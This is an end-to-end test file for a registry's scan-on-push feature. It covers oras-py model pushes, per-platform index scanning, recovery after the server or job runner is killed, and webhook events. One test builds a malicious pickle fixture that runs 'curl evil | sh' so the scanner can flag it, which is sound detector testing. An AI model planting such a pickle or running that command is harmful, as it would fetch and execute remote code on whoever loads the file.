"""Scan on push as background work, end to end: a model pushed with oras-py, an index
scanned per platform with its shared layers analysed once, scans that survive SIGKILL of
the server and of the runner, and scan events delivered to a webhook."""

from __future__ import annotations

import contextlib
import hashlib
import json
import os
import signal
import sqlite3
import subprocess
import sys
import threading
from collections.abc import Iterator
from http.server import BaseHTTPRequestHandler, ThreadingHTTPServer
from pathlib import Path
from typing import Any

import oras.provider
import pytest

from e2e.conftest import Cli
from support import layers as img
from support import models, osv
from support.aws import aws_client
from support.images import OCI_CONFIG, OCI_INDEX, OCI_MANIFEST
from support.scans import (
    APP,
    BASE,
    EXPECTED,
    EXPECTED_COUNTS,
    all_findings,
    attributes,
    finished_scan,
    push,
    put_blob,
    scan_events,
    wait_for,
)
from support.server import RunningServer, start_server

pytestmark = pytest.mark.e2e


@pytest.fixture
def ecr(server: RunningServer) -> Any:
    server.cli("vulndb", "import", str(osv.RECORDS_DIR))
    return aws_client(server, "ecr")


def test_a_model_pushed_with_oras_gets_a_critical_finding_for_its_malicious_pickle(
    server: RunningServer, ecr: Any, tmp_path: Path
) -> None:
    rules = [{"filter": "models/*", "filterType": "WILDCARD"}]
    ecr.put_registry_scanning_configuration(
        scanType="BASIC", rules=[{"scanFrequency": "SCAN_ON_PUSH", "repositoryFilters": rules}]
    )
    files = tmp_path / "model"
    files.mkdir()
    (files / "classifier.pkl").write_bytes(models.call("os", "system", "curl evil | sh"))
    (files / "weights.safetensors").write_bytes(models.safetensors({"w": ("F32", [2], (0, 8))}, 8))
    registry = oras.provider.Registry(hostname=server.registry, insecure=True, auth_backend="basic")
    registry.login(
        server.user, server.password, hostname=server.registry, config_path=str(tmp_path / "config.json")
    )
    try:
        # oras-py pushes each file as a layer of its default type, application/vnd.oci.image.layer.v1.tar.
        response = registry.push(
            f"{server.registry}/models/classifier:v1",
            files=[str(files / "classifier.pkl"), str(files / "weights.safetensors")],
            disable_path_validation=True,
            quiet=True,
        )
        assert response.status_code == 201
    finally:
        registry.session.close()

    response = finished_scan(ecr, "models/classifier", "v1")
    assert response["imageScanStatus"]["status"] == "COMPLETE"
    [found] = response["imageScanFindings"]["findings"]
    assert (found["name"], found["severity"], found["description"]) == (
        "pickle-code-execution", "CRITICAL", "imports os.system"
    )  # fmt: skip
    assert attributes(found)["file_path"].endswith("classifier.pkl")
    assert response["imageScanFindings"]["findingSeverityCounts"] == {"CRITICAL": 1}


@pytest.fixture
def one_process(tmp_path: Path) -> Iterator[RunningServer]:
    """A server of one process: its job runner scans several images at once."""
    running = start_server(tmp_path / "one", args=["--workers", "1"])
    try:
        running.cli("vulndb", "import", str(osv.RECORDS_DIR))
        yield running
    finally:
        running.stop()


def test_an_index_is_scanned_per_platform_and_its_shared_layers_analysed_once(
    one_process: RunningServer,
) -> None:
    server, ecr = one_process, aws_client(one_process, "ecr")
    ecr.create_repository(repositoryName="multi/app", imageScanningConfiguration={"scanOnPush": True})
    name = "multi/app"
    descriptors = []
    with server.client() as client:
        layers = [
            {"mediaType": img.media_type("gzip"), **put_blob(client, name, BASE)},
            {"mediaType": img.media_type("zstd"), **put_blob(client, name, APP)},
        ]
        for architecture in ("amd64", "arm64"):
            config = json.dumps({"architecture": architecture, "os": "linux", "rootfs": {"type": "layers"}})
            manifest = json.dumps(
                {
                    "schemaVersion": 2,
                    "mediaType": OCI_MANIFEST,
                    "config": {"mediaType": OCI_CONFIG, **put_blob(client, name, config.encode())},
                    "layers": layers,
                }
            ).encode()
            digest = "sha256:" + hashlib.sha256(manifest).hexdigest()
            stored = client.put(
                f"/v2/{name}/manifests/{digest}", content=manifest, headers={"Content-Type": OCI_MANIFEST}
            )
            assert stored.status_code == 201, stored.text
            platform = {"os": "linux", "architecture": architecture}
            descriptors.append(
                {"mediaType": OCI_MANIFEST, "digest": digest, "size": len(manifest), "platform": platform}
            )
        index = json.dumps({"schemaVersion": 2, "mediaType": OCI_INDEX, "manifests": descriptors})
        stored = client.put(f"/v2/{name}/manifests/v1", content=index, headers={"Content-Type": OCI_INDEX})
        assert stored.status_code == 201, stored.text

    found = all_findings(ecr, name, "v1", "findings", page=100)
    by_platform: dict[str, set[tuple[str, str]]] = {}
    for finding in found:
        by_platform.setdefault(attributes(finding)["platform"], set()).add(
            (finding["name"], finding["severity"])
        )
    expected = {(finding_name, severity) for finding_name, severity, _, _ in EXPECTED}
    assert by_platform == {"linux/amd64": expected, "linux/arm64": expected}
    # Three scans (each platform's image as pushed, then the index with both platforms)
    # ask for the same two layers eight times: each layer was analysed by one scan, and
    # the other six answers came from the cache (or from waiting for that scan).
    events = scan_events(server)
    assert len(events) == 3
    assert {event["data"]["scan-status"] for event in events} == {"COMPLETE"}
    assert sum(event["data"]["layers-analysed"] for event in events) == 2
    assert sum(event["data"]["layers-from-cache"] for event in events) == 6


@contextlib.contextmanager
def job_runner(server: RunningServer, name: str) -> Iterator[subprocess.Popen[bytes]]:
    """``strongroom jobs run`` on the server's store, as its own process group."""
    env = {**server.env, "STRONGROOM_DATA_DIR": str(server.data_dir)}
    with (server.data_dir.parent / f"{name}.log").open("ab") as output:
        process = subprocess.Popen(
            [sys.executable, "-m", "strongroom", "jobs", "run"],
            env=env, stdout=output, stderr=subprocess.STDOUT, start_new_session=True,
        )  # fmt: skip
    try:
        yield process
    finally:
        with contextlib.suppress(ProcessLookupError):
            os.killpg(process.pid, signal.SIGKILL)
        process.wait(timeout=30)


def test_a_scan_survives_sigkill_of_the_server_and_of_the_runner_scanning(
    tmp_path: Path, skopeo: Cli
) -> None:
    env = {"STRONGROOM_JOB_LEASE_SECONDS": "2", "STRONGROOM_JOB_POLL_SECONDS": "0.1"}
    server = start_server(tmp_path / "data", env=env, args=["--no-jobs"])
    try:
        server.cli("vulndb", "import", str(osv.RECORDS_DIR))
        ecr = aws_client(server, "ecr")
        ecr.create_repository(repositoryName="crash/app", imageScanningConfiguration={"scanOnPush": True})
        # A third layer big enough that the scan takes a moment to read it.
        filler = img.layer({"srv/zeros": bytes(192 * 1024 * 1024)})
        source = tmp_path / "app"
        img.write_layout(
            source,
            [(BASE, img.media_type("gzip")), (APP, img.media_type("zstd")), (filler, img.media_type("gzip"))],
            tag="v1",
        )
        push(skopeo, server, source, "crash/app:v1")
        pending = ecr.describe_image_scan_findings(repositoryName="crash/app", imageId={"imageTag": "v1"})
        assert pending["imageScanStatus"]["status"] == "PENDING"
        server.kill()  # the push's scan is only in the queue

        server = start_server(tmp_path / "data", env=env, args=["--no-jobs"])
        ecr = aws_client(server, "ecr")

        def status() -> str:
            response = ecr.describe_image_scan_findings(
                repositoryName="crash/app", imageId={"imageTag": "v1"}
            )
            return str(response["imageScanStatus"]["status"])

        with job_runner(server, "first-runner") as first:
            wait_for(lambda: True if status() == "IN_PROGRESS" else None, timeout=60)
            os.killpg(first.pid, signal.SIGKILL)  # mid-scan
        assert status() == "IN_PROGRESS"

        with job_runner(server, "second-runner"):
            response = finished_scan(ecr, "crash/app", "v1")
        assert response["imageScanStatus"]["status"] == "COMPLETE"
        assert response["imageScanFindings"]["findingSeverityCounts"] == EXPECTED_COUNTS
    finally:
        server.stop()


def test_a_scan_whose_runner_dies_on_its_last_attempt_is_failed_not_in_progress_for_ever(
    tmp_path: Path, skopeo: Cli
) -> None:
    env = {"STRONGROOM_JOB_LEASE_SECONDS": "2", "STRONGROOM_JOB_POLL_SECONDS": "0.1"}
    server = start_server(tmp_path / "data", env=env, args=["--no-jobs"])
    try:
        ecr = aws_client(server, "ecr")
        ecr.create_repository(repositoryName="crash/last", imageScanningConfiguration={"scanOnPush": True})
        filler = img.layer({"srv/zeros": bytes(192 * 1024 * 1024)})  # a scan that takes a moment
        source = tmp_path / "last"
        img.write_layout(source, [(BASE, img.media_type("gzip")), (filler, img.media_type("gzip"))], tag="v1")
        push(skopeo, server, source, "crash/last:v1")
        # This attempt is the last: the queue allows the job one (the runner's death is the proof).
        database = sqlite3.connect(server.data_dir / "strongroom.db")
        with database:
            assert (
                database.execute("UPDATE jobs SET max_attempts = 1 WHERE kind = 'scan.image'").rowcount == 1
            )
        database.close()

        def status() -> dict[str, str]:
            answer = ecr.describe_image_scan_findings(repositoryName="crash/last", imageId={"imageTag": "v1"})
            return dict(answer["imageScanStatus"])

        with job_runner(server, "killed-runner") as first:
            wait_for(lambda: True if status()["status"] == "IN_PROGRESS" else None, timeout=60)
            os.killpg(first.pid, signal.SIGKILL)  # mid-scan, on the last attempt
        assert status()["status"] == "IN_PROGRESS"
        with job_runner(server, "next-runner"):  # buries the job once its lease lapsed
            final = wait_for(lambda: status() if status()["status"] != "IN_PROGRESS" else None, timeout=60)
        assert final["status"] == "FAILED", final
        assert "last attempt" in final["description"], final
        [job] = server.cli_json("jobs", "list", "--kind", "scan.image", "--output", "json")["jobs"]
        assert job["state"] == "dead", job
    finally:
        server.stop()


def test_scan_events_reach_a_webhook(tmp_path: Path) -> None:
    received: list[dict[str, Any]] = []

    class Handler(BaseHTTPRequestHandler):
        def do_POST(self) -> None:
            received.append(json.loads(self.rfile.read(int(self.headers["content-length"]))))
            self.send_response(204)
            self.send_header("content-length", "0")
            self.end_headers()

        def log_message(self, *args: Any) -> None:
            pass

    receiver = ThreadingHTTPServer(("127.0.0.1", 0), Handler)
    threading.Thread(target=receiver.serve_forever, daemon=True).start()
    env = {"STRONGROOM_WEBHOOK_ALLOWED_NETWORKS": "127.0.0.0/8", "STRONGROOM_JOB_POLL_SECONDS": "0.1"}
    server = start_server(tmp_path / "data", env=env)
    try:
        server.cli("vulndb", "import", str(osv.RECORDS_DIR))
        url = f"http://127.0.0.1:{receiver.server_address[1]}/hook"
        server.cli("webhook", "create", "--url", url, "--events", "scan.complete,scan.finding.new")
        aws_client(server, "ecr").create_repository(
            repositoryName="hooked/app", imageScanningConfiguration={"scanOnPush": True}
        )
        with server.client() as client:
            config = {"mediaType": OCI_CONFIG, **put_blob(client, "hooked/app", b'{"os": "linux"}')}
            layers = [
                {"mediaType": img.media_type("gzip"), **put_blob(client, "hooked/app", BASE)},
                {"mediaType": img.media_type("zstd"), **put_blob(client, "hooked/app", APP)},
            ]
            manifest = {"schemaVersion": 2, "mediaType": OCI_MANIFEST, "config": config, "layers": layers}
            stored = client.put(
                "/v2/hooked/app/manifests/v1",
                content=json.dumps(manifest),
                headers={"Content-Type": OCI_MANIFEST},
            )
            assert stored.status_code == 201, stored.text
        wait_for(lambda: True if len(received) >= 2 else None, timeout=90)
    finally:
        server.stop()
        receiver.shutdown()
        receiver.server_close()

    by_type = {event["type"]: event for event in received}
    assert set(by_type) == {"io.strongroom.scan.complete", "io.strongroom.scan.finding.new"}
    complete = by_type["io.strongroom.scan.complete"]["data"]
    assert (complete["scan-status"], complete["repository-name"], complete["image-tags"]) == (
        "COMPLETE", "hooked/app", ["v1"]
    )  # fmt: skip
    assert complete["finding-severity-counts"] == EXPECTED_COUNTS
    new = by_type["io.strongroom.scan.finding.new"]["data"]
    assert {(f["name"], f["severity"]) for f in new["findings"]} == {(n, s) for n, s, _, _ in EXPECTED}
